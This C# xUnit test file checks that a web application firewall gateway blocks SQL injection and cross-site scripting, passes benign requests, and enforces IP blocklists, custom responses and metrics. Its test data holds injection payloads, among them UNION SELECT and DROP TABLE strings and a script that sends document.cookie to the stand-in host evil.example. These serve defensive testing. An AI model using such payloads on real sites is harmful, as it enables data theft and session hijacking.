using System.Net;
using System.Text.Json;
using Prometheus;

namespace Rampart.Tests.Waf.Gateway;

/// <summary>The web ACL associated with a gateway decides every request through it.</summary>
public sealed class WebAclEnforcementTests(GatewayFixture gateway) : IClassFixture<GatewayFixture>
{
    public static TheoryData<string> SqlInjections => new()
    {
        "/search?id=1%27%20OR%20%271%27%3D%271",
        "/search?q=1%20UNION%20SELECT%20username%2C%20password%20FROM%20users--",
        "/search?id=1%3B%20DROP%20TABLE%20users--",
    };

    public static TheoryData<string> CrossSiteScripting => new()
    {
        "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        "/search?q=%3Csvg%20onload%3Dalert(document.cookie)%3E",
    };

    public static TheoryData<string> Benign => new()
    {
        "/search?q=hello%20world",
        "/search?q=fish%20and%20chips&page=2",
        "/products/42?sort=price&order=asc",
        "/search?q=5%20%3E%203",
    };

    [Theory]
    [MemberData(nameof(SqlInjections))]
    [MemberData(nameof(CrossSiteScripting))]
    public async Task Injection_in_the_query_string_is_blocked(string target)
    {
        gateway.WebAcls.Set(WebAcls.Standard, IpSets());
        using var client = gateway.Client();

        using var response = await client.GetAsync(target);

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Contains("403 Forbidden", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("comment=1' OR '1'='1")]
    [InlineData("comment=<script>document.location='http://evil.example/'+document.cookie</script>")]
    public async Task Injection_in_the_body_is_blocked(string body)
    {
        gateway.WebAcls.Set(WebAcls.Standard, IpSets());
        using var client = gateway.Client();

        using var response = await client.PostAsync("/comments", new StringContent(body, System.Text.Encoding.UTF8, "application/x-www-form-urlencoded"));

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
    }

    [Theory]
    [MemberData(nameof(Benign))]
    public async Task Benign_requests_pass(string target)
    {
        gateway.WebAcls.Set(WebAcls.Standard, IpSets());
        using var client = gateway.Client();

        using var response = await client.GetAsync(target);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
    }

    [Fact]
    public async Task A_benign_body_passes_whole()
    {
        gateway.WebAcls.Set(WebAcls.Standard, IpSets());
        using var client = gateway.Client();
        var body = "comment=" + new string('a', 20_000) + "+and+a+fine+day";

        using var response = await client.PostAsync("/comments", new StringContent(body, System.Text.Encoding.UTF8, "application/x-www-form-urlencoded"));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var echo = JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement;
        Assert.Equal(System.Text.Encoding.UTF8.GetByteCount(body), echo.GetProperty("bodyLength").GetInt64());
    }

    [Fact]
    public async Task A_blocked_address_gets_403_and_other_addresses_pass()
    {
        gateway.WebAcls.Set(WebAcls.Standard, IpSets("127.0.0.9/32"));
        using var blocked = gateway.Client("127.0.0.9");
        using var other = gateway.Client("127.0.0.10");

        using var refused = await blocked.GetAsync("/home");
        using var served = await other.GetAsync("/home");

        Assert.Equal(HttpStatusCode.Forbidden, refused.StatusCode);
        Assert.Equal(HttpStatusCode.OK, served.StatusCode);
    }

    [Fact]
    public async Task A_changed_ip_set_binds_the_next_request()
    {
        using var client = gateway.Client("127.0.0.11");
        gateway.WebAcls.Set(WebAcls.Standard, IpSets("127.0.0.11/32"));
        using (var before = await client.GetAsync("/home"))
        {
            Assert.Equal(HttpStatusCode.Forbidden, before.StatusCode);
        }

        gateway.WebAcls.Set(WebAcls.Standard, IpSets("127.0.0.12/32"));
        using (var after = await client.GetAsync("/home"))
        {
            Assert.Equal(HttpStatusCode.OK, after.StatusCode);
        }

        gateway.WebAcls.Set(null);
        using var unprotected = await client.GetAsync("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
        Assert.Equal(HttpStatusCode.OK, unprotected.StatusCode);
    }

    [Fact]
    public async Task Allow_with_custom_handling_inserts_prefixed_headers_upstream()
    {
        gateway.WebAcls.Set(WebAcls.Standard, IpSets());
        using var client = gateway.Client();
        using var request = new HttpRequestMessage(HttpMethod.Get, "/greet");
        request.Headers.Add("x-amzn-waf-greeting", "forged by the client");

        using var response = await client.SendAsync(request);

        var headers = JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement.GetProperty("headers");
        Assert.Equal("hello", headers.GetProperty("x-amzn-waf-greeting").GetString());
    }

    [Fact]
    public async Task Block_with_a_custom_response_answers_it()
    {
        gateway.WebAcls.Set(WebAcls.Standard, IpSets());
        using var client = gateway.Client();

        using var response = await client.GetAsync("/teapot");

        Assert.Equal((HttpStatusCode)418, response.StatusCode);
        Assert.Equal("no", response.Headers.GetValues("x-brew").Single());
        Assert.Equal("application/json", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("""{"brewing": false}""", await response.Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task Blocks_are_counted_per_rule_and_for_the_web_acl()
    {
        gateway.WebAcls.Set(WebAcls.StandardNamed("counted-acl"), IpSets());
        using var client = gateway.Client();
        var ruleBefore = await CounterAsync("BlockedRequests", "sqli");
        var allBefore = await CounterAsync("BlockedRequests", "ALL");
        var allowedBefore = await CounterAsync("AllowedRequests", "Default_Action");

        using (await client.GetAsync("/search?id=1%27%20OR%20%271%27%3D%271"))
        using (await client.GetAsync("/search?q=plain"))
        {
        }

        Assert.Equal(ruleBefore + 1, await CounterAsync("BlockedRequests", "sqli"));
        Assert.Equal(allBefore + 1, await CounterAsync("BlockedRequests", "ALL"));
        Assert.Equal(allowedBefore + 1, await CounterAsync("AllowedRequests", "Default_Action"));
    }

    [Fact]
    public async Task Blocked_requests_are_sampled_under_their_rule()
    {
        gateway.WebAcls.Set(WebAcls.Standard, IpSets());
        using var client = gateway.Client("127.0.0.21");
        var start = DateTimeOffset.UtcNow.AddSeconds(-1);

        using (await client.GetAsync("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"))
        {
        }

        var (samples, population) = gateway.Context.Samples.Query(WebAcls.Arn, "xss", start, DateTimeOffset.UtcNow.AddSeconds(1), 100);
        var sample = Assert.Single(samples, s => s.Request.ClientIp == "127.0.0.21").Request;
        Assert.True(population >= 1);
        Assert.Equal("BLOCK", sample.Action);
        Assert.Equal("GET", sample.Method);
        Assert.Equal(403, sample.ResponseCodeSent);
        Assert.StartsWith("/search?q=", sample.Uri, StringComparison.Ordinal);
    }

    private static Dictionary<string, string> IpSets(params string[] addresses) =>
        new() { [WebAcls.BlockedIpSetArn] = WebAcls.IpSet(addresses) };

    private static async Task<double> CounterAsync(string metric, string rule)
    {
        using var stream = new MemoryStream();
        await Metrics.DefaultRegistry.CollectAndExportAsTextAsync(stream);
        var prefix = $"{metric}{{Region=\"us-east-1\",WebACL=\"counted-acl\",Rule=\"{rule}\"}} ";
        var line = System.Text.Encoding.UTF8.GetString(stream.ToArray()).Split('\n').FirstOrDefault(l => l.StartsWith(prefix, StringComparison.Ordinal));
        return line is null ? 0 : double.Parse(line[prefix.Length..], System.Globalization.CultureInfo.InvariantCulture);
    }
}
